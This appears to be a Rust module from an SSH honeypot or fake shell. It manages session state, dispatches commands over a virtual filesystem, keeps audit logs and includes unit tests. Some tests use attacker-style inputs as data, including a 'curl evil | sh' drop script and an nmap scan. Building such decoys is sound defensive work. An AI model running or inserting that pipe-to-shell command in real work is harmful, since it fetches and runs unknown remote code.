//! Per-connection session state and command dispatch.
//!
//! A session runs `AwaitingLine -> Dispatching -> AwaitingLine` until the
//! peer leaves or a command calls [`Session::exit`]. Dispatch is strictly
//! sequential within one session; different sessions run in parallel over
//! the shared [`Host`].

use std::fmt;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicI32, Ordering};

use parking_lot::{Mutex, RwLock};
use tracing::{info, warn};
use uuid::Uuid;

use crate::AUDIT_TARGET;
use crate::args::CmdArgs;
use crate::commands::{CommandHandler, CommandRegistry};
use crate::host::Host;
use crate::vfs::{
    FileType, Identity, Mode, NodeInfo, NodeKind, Resolved, Vfs, VfsContext, VfsError, VfsResult,
    path,
};

/// Exit status when the command does not exist.
pub const STATUS_NOT_FOUND: i32 = 127;
/// Exit status when the command exists but cannot run.
pub const STATUS_NOT_EXECUTABLE: i32 = 126;

/// Where the session loop is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    AwaitingLine,
    Dispatching,
    Closed,
}

/// What happened to one input line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Dispatch {
    /// Nothing but whitespace.
    Blank,
    /// A handler ran to completion.
    Executed { command: String },
    /// A handler ran and returned an error.
    Failed { command: String },
    /// No such command, or the path could not be executed.
    NotFound { command: String },
    /// The session was already closed.
    Closed,
}

struct Inner {
    id: Uuid,
    host: Arc<Host>,
    login: Identity,
    identity: RwLock<Identity>,
    remote_ip: String,
    cwd: RwLock<String>,
    output: Mutex<String>,
    history: Mutex<Vec<String>>,
    state: Mutex<SessionState>,
    closed: AtomicBool,
    last_status: AtomicI32,
}

/// One authenticated connection. Cheap to clone; clones share state.
#[derive(Clone)]
pub struct Session {
    inner: Arc<Inner>,
}

impl fmt::Debug for Session {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Session")
            .field("id", &self.inner.id)
            .field("user", &self.inner.login.username)
            .field("remote_ip", &self.inner.remote_ip)
            .field("cwd", &*self.inner.cwd.read())
            .finish_non_exhaustive()
    }
}

impl Session {
    /// Start a session for `username`, in their home if the tree has one.
    pub fn new(host: Arc<Host>, username: &str, remote_ip: impl Into<String>) -> Self {
        let login = Identity::new(username, username);
        let home = host.vfs().canonical_home();
        let cwd = match host.vfs().stat(&home, &VfsContext::system()) {
            Ok(info) if info.kind == FileType::Directory => home,
            _ => "/".to_string(),
        };

        Self {
            inner: Arc::new(Inner {
                id: Uuid::new_v4(),
                host,
                identity: RwLock::new(login.clone()),
                login,
                remote_ip: remote_ip.into(),
                cwd: RwLock::new(cwd),
                output: Mutex::new(String::new()),
                history: Mutex::new(Vec::new()),
                state: Mutex::new(SessionState::AwaitingLine),
                closed: AtomicBool::new(false),
                last_status: AtomicI32::new(0),
            }),
        }
    }

    pub fn id(&self) -> Uuid {
        self.inner.id
    }

    pub fn host(&self) -> &Arc<Host> {
        &self.inner.host
    }

    pub fn vfs(&self) -> &Arc<Vfs> {
        self.inner.host.vfs()
    }

    pub fn registry(&self) -> &Arc<CommandRegistry> {
        self.inner.host.registry()
    }

    pub fn hostname(&self) -> &str {
        self.inner.host.hostname()
    }

    pub fn remote_ip(&self) -> &str {
        &self.inner.remote_ip
    }

    /// Name the peer logged in with.
    pub fn login_name(&self) -> &str {
        &self.inner.login.username
    }

    /// Current identity, as changed by `su`-like commands.
    pub fn identity(&self) -> Identity {
        self.inner.identity.read().clone()
    }

    pub fn username(&self) -> String {
        self.inner.identity.read().username.clone()
    }

    pub fn group(&self) -> String {
        self.inner.identity.read().group.clone()
    }

    pub fn set_identity(&self, identity: Identity) {
        info!(
            target: AUDIT_TARGET,
            session = %self.inner.id,
            from = %self.inner.identity.read().username,
            to = %identity.username,
            "identity changed"
        );
        *self.inner.identity.write() = identity;
    }

    /// Identity used against the tree.
    ///
    /// The login identity maps to the home placeholder, so every session
    /// owns the shared templated home. A switched identity is used as is.
    pub fn effective_identity(&self) -> Identity {
        let current = self.inner.identity.read();
        if *current == self.inner.login {
            Identity::new(path::USER_PLACEHOLDER, path::USER_PLACEHOLDER)
        } else {
            current.clone()
        }
    }

    pub fn context(&self) -> VfsContext {
        VfsContext::new(
            self.inner.cwd.read().clone(),
            self.inner.login.username.clone(),
            Some(self.effective_identity()),
        )
    }

    /// Literal home, e.g. `/home/alice`.
    pub fn home(&self) -> String {
        self.vfs().home_for(self.login_name())
    }

    /// Canonical working directory.
    pub fn cwd(&self) -> String {
        self.inner.cwd.read().clone()
    }

    /// Working directory as `pwd` prints it.
    pub fn display_cwd(&self) -> String {
        self.display_path(&self.inner.cwd.read())
    }

    /// Working directory as a prompt shows it, with `~` for home.
    pub fn prompt_cwd(&self) -> String {
        path::tilde_display(&self.inner.cwd.read(), self.login_name(), self.vfs().home_template())
    }

    /// Show a canonical path the way this user expects to see it.
    pub fn display_path(&self, canonical: &str) -> String {
        path::display(canonical, self.login_name(), self.vfs().home_template())
    }

    /// Change directory. The target must resolve to a directory.
    pub fn chdir(&self, raw: &str) -> VfsResult<String> {
        let ctx = self.context();
        let target = self.vfs().realpath(raw, &ctx)?;
        let info = self.vfs().stat(&target, &ctx)?;
        if info.kind != FileType::Directory {
            return Err(VfsError::not_a_directory(target));
        }
        *self.inner.cwd.write() = target.clone();
        Ok(target)
    }

    pub fn resolve(&self, raw: &str) -> VfsResult<Resolved<'_>> {
        self.vfs().resolve(raw, &self.context())
    }

    pub fn stat(&self, raw: &str) -> VfsResult<NodeInfo> {
        self.vfs().stat(raw, &self.context())
    }

    pub fn read_file(&self, raw: &str) -> VfsResult<String> {
        self.vfs().read_file(raw, &self.context())
    }

    pub fn read_dir(&self, raw: &str) -> VfsResult<Vec<NodeInfo>> {
        self.vfs().read_dir(raw, &self.context())
    }

    pub fn create_dir(&self, raw: &str, mode: Option<Mode>) -> VfsResult<String> {
        let path = self.vfs().create_dir(raw, mode, &self.context())?;
        self.audit_mutation("mkdir", &path);
        Ok(path)
    }

    pub fn write_file(&self, raw: &str, contents: &str) -> VfsResult<String> {
        let path = self.vfs().write_file(raw, contents, &self.context())?;
        info!(
            target: AUDIT_TARGET,
            session = %self.inner.id,
            ip = %self.inner.remote_ip,
            path = %path,
            bytes = contents.len(),
            "write"
        );
        Ok(path)
    }

    pub fn append_file(&self, raw: &str, contents: &str) -> VfsResult<String> {
        let path = self.vfs().append_file(raw, contents, &self.context())?;
        info!(
            target: AUDIT_TARGET,
            session = %self.inner.id,
            ip = %self.inner.remote_ip,
            path = %path,
            bytes = contents.len(),
            "append"
        );
        Ok(path)
    }

    pub fn remove(&self, raw: &str) -> VfsResult<String> {
        let path = self.vfs().remove(raw, &self.context())?;
        self.audit_mutation("remove", &path);
        Ok(path)
    }

    fn audit_mutation(&self, op: &'static str, path: &str) {
        info!(
            target: AUDIT_TARGET,
            session = %self.inner.id,
            ip = %self.inner.remote_ip,
            op,
            path,
            "vfs mutation"
        );
    }

    /// Append to the pending output.
    pub fn write(&self, text: &str) {
        self.inner.output.lock().push_str(text);
    }

    pub fn writeln(&self, text: &str) {
        let mut out = self.inner.output.lock();
        out.push_str(text);
        out.push('\n');
    }

    /// Drain the pending output.
    pub fn take_output(&self) -> String {
        std::mem::take(&mut *self.inner.output.lock())
    }

    /// Lines dispatched so far, oldest first.
    pub fn history(&self) -> Vec<String> {
        self.inner.history.lock().clone()
    }

    pub fn state(&self) -> SessionState {
        *self.inner.state.lock()
    }

    /// Exit status of the last dispatched command.
    pub fn last_status(&self) -> i32 {
        self.inner.last_status.load(Ordering::SeqCst)
    }

    pub fn set_status(&self, status: i32) {
        self.inner.last_status.store(status, Ordering::SeqCst);
    }

    /// Ask the loop to end after the current command.
    pub fn exit(&self) {
        self.inner.closed.store(true, Ordering::SeqCst);
        *self.inner.state.lock() = SessionState::Closed;
    }

    pub fn is_closed(&self) -> bool {
        self.inner.closed.load(Ordering::SeqCst)
    }

    /// Prompt text from the configured prompt function.
    pub fn prompt(&self) -> String {
        self.inner.host.hooks().prompt(self)
    }

    /// Banner shown once after login, if a plugin provides one.
    pub fn login_message(&self) -> Option<String> {
        self.inner.host.hooks().login_message(self)
    }

    /// Run one input line.
    ///
    /// The line splits on its first space into command and arguments. A
    /// command starting with `/` or `.` is a path into the VFS and must be an
    /// executable node the current identity may execute; anything else is
    /// looked up by bare name.
    pub fn dispatch(&self, line: &str) -> Dispatch {
        if self.is_closed() {
            return Dispatch::Closed;
        }
        let line = line.trim();
        if line.is_empty() {
            return Dispatch::Blank;
        }

        *self.inner.state.lock() = SessionState::Dispatching;
        self.inner.history.lock().push(line.to_string());

        let (command, raw_args) = line.split_once(' ').unwrap_or((line, ""));
        info!(
            target: AUDIT_TARGET,
            session = %self.inner.id,
            ip = %self.inner.remote_ip,
            user = %self.inner.login.username,
            cwd = %self.cwd(),
            line,
            "[client] $ {line}"
        );

        let handler = if command.starts_with('/') || command.starts_with('.') {
            self.resolve_executable(command).map_err(|err| {
                let message = err.shell_message().to_string();
                let status = match err {
                    VfsError::NotFound(_) => STATUS_NOT_FOUND,
                    _ => STATUS_NOT_EXECUTABLE,
                };
                (format!("{command}: {message}"), status)
            })
        } else {
            self.registry()
                .lookup(command)
                .ok_or_else(|| (format!("{line}: command not found"), STATUS_NOT_FOUND))
        };

        let outcome = match handler {
            Ok(handler) => self.run(command, raw_args, handler),
            Err((message, status)) => {
                warn!(
                    target: AUDIT_TARGET,
                    session = %self.inner.id,
                    ip = %self.inner.remote_ip,
                    command,
                    %message,
                    "dispatch failed"
                );
                self.writeln(&message);
                self.set_status(status);
                Dispatch::NotFound {
                    command: command.to_string(),
                }
            }
        };

        if !self.is_closed() {
            *self.inner.state.lock() = SessionState::AwaitingLine;
        }
        outcome
    }

    fn run(&self, command: &str, raw_args: &str, handler: Arc<dyn CommandHandler>) -> Dispatch {
        let args = CmdArgs::parse(raw_args);
        self.set_status(0);
        match handler.call(&args, self) {
            Ok(()) => Dispatch::Executed {
                command: command.to_string(),
            },
            Err(e) => {
                warn!(
                    target: AUDIT_TARGET,
                    session = %self.inner.id,
                    ip = %self.inner.remote_ip,
                    command,
                    error = %format!("{e:#}"),
                    "command failed"
                );
                if self.last_status() == 0 {
                    self.set_status(1);
                }
                Dispatch::Failed {
                    command: command.to_string(),
                }
            }
        }
    }

    /// Resolve a path-style command to the handler mounted there.
    fn resolve_executable(&self, command: &str) -> VfsResult<Arc<dyn CommandHandler>> {
        let ctx = self.context();
        let target = self.vfs().realpath(command, &ctx)?;
        self.vfs().with_node(&target, &ctx, |path, node| match &node.kind {
            NodeKind::Directory(_) => Err(VfsError::is_a_directory(path)),
            NodeKind::Executable(handler) if node.access(ctx.identity.as_ref()).execute => {
                Ok(Arc::clone(handler))
            }
            _ => Err(VfsError::permission_denied(path)),
        })?
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plugin::Config;
    use crate::vfs::Node;

    fn host() -> Arc<Host> {
        let home = Node::directory("{}", "{}", "{}", Mode::dir(0o755))
            .with_child(Node::file("notes.txt", "{}", "{}", Mode::file(0o644), "hello"));
        let root = Node::directory("", "root", "root", Mode::dir(0o755))
            .with_child(Node::directory("home", "root", "root", Mode::dir(0o755)).with_child(home))
            .with_child(Node::directory("bin", "root", "root", Mode::dir(0o755)))
            .with_child(
                Node::directory("etc", "root", "root", Mode::dir(0o755))
                    .with_child(Node::file("issue", "root", "root", Mode::file(0o644), "Ubuntu 22.04")),
            );
        let vfs = Arc::new(Vfs::new(root, "/home/{}"));

        let mut config = Config::new("test");
        config.register_command(
            "echo",
            "/bin",
            Arc::new(|args: &CmdArgs, session: &Session| -> anyhow::Result<()> {
                session.writeln(&args.positional().join(" "));
                Ok(())
            }),
        );
        config.register_command(
            "false",
            "/bin",
            Arc::new(|_: &CmdArgs, _: &Session| -> anyhow::Result<()> {
                anyhow::bail!("always fails")
            }),
        );
        config.register_command(
            "exit",
            "/bin",
            Arc::new(|_: &CmdArgs, session: &Session| -> anyhow::Result<()> {
                session.exit();
                Ok(())
            }),
        );
        Arc::new(Host::builder(vfs).hostname("web01").config(config).build().unwrap())
    }

    #[test]
    fn test_starts_in_home() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        assert_eq!(session.cwd(), "/home/{}");
        assert_eq!(session.display_cwd(), "/home/alice");
        assert_eq!(session.prompt_cwd(), "~");
        assert_eq!(session.state(), SessionState::AwaitingLine);
    }

    #[test]
    fn test_dispatch_bare_name() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        let outcome = session.dispatch("  echo hello   world ");
        assert_eq!(
            outcome,
            Dispatch::Executed {
                command: "echo".into()
            }
        );
        assert_eq!(session.take_output(), "hello world\n");
        assert_eq!(session.history(), vec!["echo hello   world".to_string()]);
        assert_eq!(session.dispatch("   "), Dispatch::Blank);
    }

    #[test]
    fn test_dispatch_not_found() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        session.dispatch("nmap -sS 10.0.0.0/8");
        assert_eq!(session.take_output(), "nmap -sS 10.0.0.0/8: command not found\n");
        assert_eq!(session.last_status(), STATUS_NOT_FOUND);
    }

    #[test]
    fn test_dispatch_by_path() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        session.dispatch("/bin/echo hi");
        assert_eq!(session.take_output(), "hi\n");

        session.chdir("/bin").unwrap();
        session.dispatch("./echo dot");
        assert_eq!(session.take_output(), "dot\n");

        session.dispatch("/bin/nope");
        assert_eq!(session.take_output(), "/bin/nope: No such file or directory\n");

        session.dispatch("/etc");
        assert_eq!(session.take_output(), "/etc: Is a directory\n");
    }

    #[test]
    fn test_path_dispatch_requires_executable_node() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        // a plain file that merely looks like a relative path is not runnable
        session.dispatch("./notes.txt");
        assert_eq!(session.take_output(), "./notes.txt: Permission denied\n");
        assert_eq!(session.last_status(), STATUS_NOT_EXECUTABLE);
    }

    #[test]
    fn test_mounted_command_cannot_be_removed() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        session.set_identity(Identity::root());

        assert!(matches!(session.remove("/bin/echo"), Err(VfsError::PermissionDenied(_))));
        assert!(matches!(session.remove("/bin"), Err(VfsError::PermissionDenied(_))));
        assert!(matches!(
            session.write_file("/bin/echo", "#!/bin/sh"),
            Err(VfsError::PermissionDenied(_))
        ));
        assert_eq!(session.stat("/bin/echo").unwrap().kind, FileType::Executable);

        session.dispatch("echo still-runs");
        assert_eq!(session.take_output(), "still-runs\n");
    }

    #[test]
    fn test_handler_error_is_silent() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        assert_eq!(
            session.dispatch("false"),
            Dispatch::Failed {
                command: "false".into()
            }
        );
        assert_eq!(session.take_output(), "");
        assert_eq!(session.last_status(), 1);
    }

    #[test]
    fn test_exit_closes() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        session.dispatch("exit");
        assert!(session.is_closed());
        assert_eq!(session.state(), SessionState::Closed);
        assert_eq!(session.dispatch("echo late"), Dispatch::Closed);
    }

    #[test]
    fn test_chdir() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        assert_eq!(session.chdir("..").unwrap(), "/home");
        assert!(matches!(session.chdir("/etc/issue"), Err(VfsError::NotADirectory(_))));
        assert!(matches!(session.chdir("/nowhere"), Err(VfsError::NotFound(_))));
        assert_eq!(session.cwd(), "/home");
        session.chdir("~").unwrap();
        assert_eq!(session.display_cwd(), "/home/alice");
    }

    #[test]
    fn test_sessions_share_home() {
        let host = host();
        let alice = Session::new(Arc::clone(&host), "alice", "10.0.0.1");
        let bob = Session::new(host, "bob", "10.0.0.2");
        alice.write_file("~/drop.sh", "curl evil | sh").unwrap();
        assert_eq!(bob.read_file("/home/bob/drop.sh").unwrap(), "curl evil | sh");
        assert_eq!(alice.stat("drop.sh").unwrap().owner, "{}");
    }

    #[test]
    fn test_switched_identity_uses_raw_name() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        assert!(session.write_file("/etc/motd", "x").is_err());
        session.set_identity(Identity::root());
        assert_eq!(session.effective_identity(), Identity::root());
        session.write_file("/etc/motd", "x").unwrap();
        assert_eq!(session.stat("/etc/motd").unwrap().owner, "root");
    }

    #[test]
    fn test_default_prompt() {
        let session = Session::new(host(), "alice", "10.0.0.1");
        assert_eq!(session.prompt(), "alice@web01:~$ ");
        session.set_identity(Identity::root());
        session.chdir("/etc").unwrap();
        assert_eq!(session.prompt(), "root@web01:/etc# ");
        assert!(session.login_message().is_none());
    }
}
